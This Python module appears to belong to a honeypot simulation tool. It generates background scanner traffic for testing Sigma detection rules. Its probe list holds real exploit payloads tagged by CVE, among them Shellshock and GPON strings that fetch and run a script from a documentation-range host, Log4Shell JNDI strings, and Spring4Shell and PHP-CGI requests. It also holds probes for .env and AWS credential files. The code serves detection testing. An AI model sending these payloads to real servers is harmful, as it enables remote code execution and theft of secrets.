"""What background noise and research scanners send: request templates, user agents, random paths.

Each probe names the CVEs the bundled Sigma rules tag on it (``cves``) — the design-side truth the trend
ground truth is computed from; ``tests/simulate`` checks that detection really tags them. Probes for a
vulnerability published later than the simulated day are held back until their ``since`` day (nobody sent
Log4Shell strings before 2021-12-10). Exploit payloads name documentation addresses (RFC 5737) as their
download hosts: nothing here points at a real host.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import date
from typing import Final

Header = tuple[str, str]


@dataclass(frozen=True, slots=True)
class Probe:
    """One request template of the background noise."""

    name: str
    method: str
    target: str
    headers: tuple[Header, ...] = ()
    body: bytes = b""
    cves: tuple[str, ...] = ()
    weight: float = 1.0
    #: First day anyone sent it (the vulnerability's publication); None: always.
    since: date | None = None
    #: Replaces the visit's User-Agent (exploits that ride in it).
    user_agent: str | None = None

    def active(self, day: date) -> bool:
        """Whether anyone sent this probe on ``day``."""
        return self.since is None or day >= self.since


_FORM: Final = (("Content-Type", "application/x-www-form-urlencoded"),)
_SHELLSHOCK: Final = '() { :; }; /bin/bash -c "wget http://198.51.100.23/bins.sh -O /tmp/b; sh /tmp/b"'
_JNDI: Final = "${jndi:ldap://198.51.100.41:1389/Exploit}"
_JNDI_OBFUSCATED: Final = "${${lower:j}ndi:${lower:l}dap://192.0.2.77:1389/a}"

#: The fixed probes (random paths are added per run, see ``random_paths``).
PROBES: Final[tuple[Probe, ...]] = (
    Probe("root", "GET", "/", weight=20),
    Probe("robots", "GET", "/robots.txt", weight=4),
    Probe("favicon", "GET", "/favicon.ico", weight=5),
    Probe("sitemap", "GET", "/sitemap.xml", weight=1),
    Probe("security.txt", "GET", "/.well-known/security.txt", weight=1),
    Probe("dotenv", "GET", "/.env", weight=6),
    Probe("git-config", "GET", "/.git/config", weight=3),
    Probe("aws-credentials", "GET", "/.aws/credentials", weight=1),
    Probe("wp-config-backup", "GET", "/wp-config.php.bak", weight=1),
    Probe("phpinfo", "GET", "/phpinfo.php", weight=2),
    Probe("wp-login", "GET", "/wp-login.php", weight=5),
    Probe("wp-admin", "GET", "/wp-admin/", weight=2),
    Probe("wp-login-post", "POST", "/wp-login.php", _FORM, b"log=admin&pwd=admin123&wp-submit=Log+In", weight=2),
    Probe("xmlrpc", "POST", "/xmlrpc.php", (("Content-Type", "text/xml"),),
          b"<?xml version=\"1.0\"?><methodCall><methodName>system.listMethods</methodName><params></params>"
          b"</methodCall>", weight=1),
    Probe("phpmyadmin", "GET", "/phpMyAdmin/", weight=3),
    Probe("phpmyadmin-index", "GET", "/phpmyadmin/index.php", weight=2),
    Probe("pma", "GET", "/pma/", weight=1),
    Probe("myadmin", "GET", "/myadmin/scripts/setup.php", weight=1),
    Probe("owa-logon", "GET", "/owa/auth/logon.aspx", weight=6),
    Probe("owa", "GET", "/owa/", weight=3),
    Probe("ecp", "GET", "/ecp/", weight=1),
    Probe("autodiscover", "GET", "/autodiscover/autodiscover.xml", weight=2),
    Probe("exporttool", "GET", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
          weight=1),
    Probe("owa-login-post", "POST", "/owa/auth.owa", _FORM,
          b"destination=https%3A%2F%2Fmail.contoso.com%2Fowa%2F&flags=4&forcedownlevel=0&username=administrator"
          b"&password=P%40ssw0rd&isUtf8=1", weight=2),
    Probe("shellshock", "GET", "/cgi-bin/status", cves=("CVE-2014-6271",), weight=2, user_agent=_SHELLSHOCK),
    Probe("thinkphp", "GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
          "&vars[0]=md5&vars[1][]=HelloThinkPHP21", cves=("CVE-2018-20062", "CVE-2019-9082"), weight=2),
    Probe("phpunit", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", body=b'<?php echo(md5("Hello '
          b'PHPUnit"));', cves=("CVE-2017-9841",), weight=2),
    Probe("gpon", "POST", "/GponForm/diag_Form?images/", body=b"XWebPageName=diag&diag_action=ping&wan_conlist=0"
          b"&dest_host=`busybox+wget+http://198.51.100.9/x+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0",
          cves=("CVE-2018-10561", "CVE-2018-10562"), weight=2),
    Probe("laravel-ignition", "POST", "/_ignition/execute-solution", (("Content-Type", "application/json"),),
          b'{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":'
          b'{"variableName":"x","viewFile":"phar://x"}}', cves=("CVE-2021-3129",), weight=1,
          since=date(2021, 1, 12)),
    Probe("hikvision", "PUT", "/SDK/webLanguage", body=b'<?xml version="1.0" encoding="UTF-8"?><language>$(id>'
          b"webLib/x)</language>", cves=("CVE-2021-36260",), weight=1, since=date(2021, 9, 18)),
    Probe("log4shell-ua", "GET", "/", cves=("CVE-2021-44228",), weight=4, since=date(2021, 12, 10),
          user_agent=_JNDI),
    Probe("log4shell-header", "GET", "/owa/", (("X-Api-Version", _JNDI_OBFUSCATED),), cves=("CVE-2021-44228",),
          weight=2, since=date(2021, 12, 10)),
    Probe("spring4shell", "POST", "/", _FORM, b"class.module.classLoader.resources.context.parent.pipeline.first."
          b"pattern=%25%7Bc2%7Di", cves=("CVE-2022-22965",), weight=1, since=date(2022, 3, 31)),
    Probe("php-cgi", "POST", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
          body=b"<?php echo 1; ?>", cves=("CVE-2012-1823", "CVE-2024-4577"), weight=1, since=date(2024, 6, 7)),
)

#: User agents of background noise, with weights: browsers (often stale), libraries and scanning tools.
NOISE_AGENTS: Final[tuple[tuple[str | None, float], ...]] = (
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 "
     "Safari/537.36", 14),
    ("Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:84.0) Gecko/20100101 Firefox/84.0", 6),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.1 "
     "Safari/605.1.15", 3),
    ("Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", 2),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36", 5),
    ("curl/7.68.0", 5),
    ("Wget/1.20.3 (linux-gnu)", 1),
    ("python-requests/2.25.1", 4),
    ("python-requests/2.24.0", 2),
    ("Go-http-client/1.1", 8),
    ("Mozilla/5.0 zgrab/0.x", 6),
    ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", 2),
    ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", 2),
    ("l9explore/1.0.0", 1),
    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", 2),
    (None, 4),
)

#: The full User-Agent strings the scanners' own pages give (the bundled list keeps only substrings).
SCANNER_AGENTS: Final[dict[str, str]] = {
    "Censys": "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Palo Alto Networks Cortex Xpanse": "Expanse, a Palo Alto Networks company, searches across the global IPv4 "
                                        "space multiple times per day to identify customers' presences on the "
                                        "Internet. If you would like to be excluded from our scans, please send "
                                        "IP addresses/domains to: scaninfo@paloaltonetworks.com",
}
#: What research scanners fetch: the page, its favicon and the usual well-known files.
SCANNER_PROBES: Final[tuple[Probe, ...]] = (
    Probe("root", "GET", "/", weight=10),
    Probe("favicon", "GET", "/favicon.ico", weight=4),
    Probe("robots", "GET", "/robots.txt", weight=2),
    Probe("security.txt", "GET", "/.well-known/security.txt", weight=1),
    Probe("owa-logon", "GET", "/owa/auth/logon.aspx", weight=3),
    Probe("owa", "GET", "/owa/", weight=2),
)
BROWSER_AGENT: Final = NOISE_AGENTS[0][0] or ""

_SYLLABLES: Final = ("ad", "min", "log", "in", "api", "v1", "back", "up", "old", "new", "test", "dev", "cgi", "bin",
                     "shop", "user", "data", "conf", "web", "site", "home", "file", "app", "srv", "portal", "db")
_SUFFIXES: Final = ("", "", "/", ".php", ".asp", ".aspx", ".jsp", ".html", ".zip", ".sql", ".bak")


def random_paths(seed: int, count: int = 150) -> tuple[Probe, ...]:
    """``count`` wordlist-looking paths, the same for the same seed (a finite set: responses are cached)."""
    rng = random.Random(f"honeyscope-simulate-paths-{seed}")
    names: dict[str, None] = {}
    while len(names) < count:
        parts = [rng.choice(_SYLLABLES) for _ in range(rng.randint(1, 3))]
        separator = rng.choice(("", "", "-", "_", "/"))
        names.setdefault("/" + separator.join(parts) + rng.choice(_SUFFIXES))
    return tuple(Probe(f"path{index}", "GET", path, weight=15 / count) for index, path in enumerate(names))
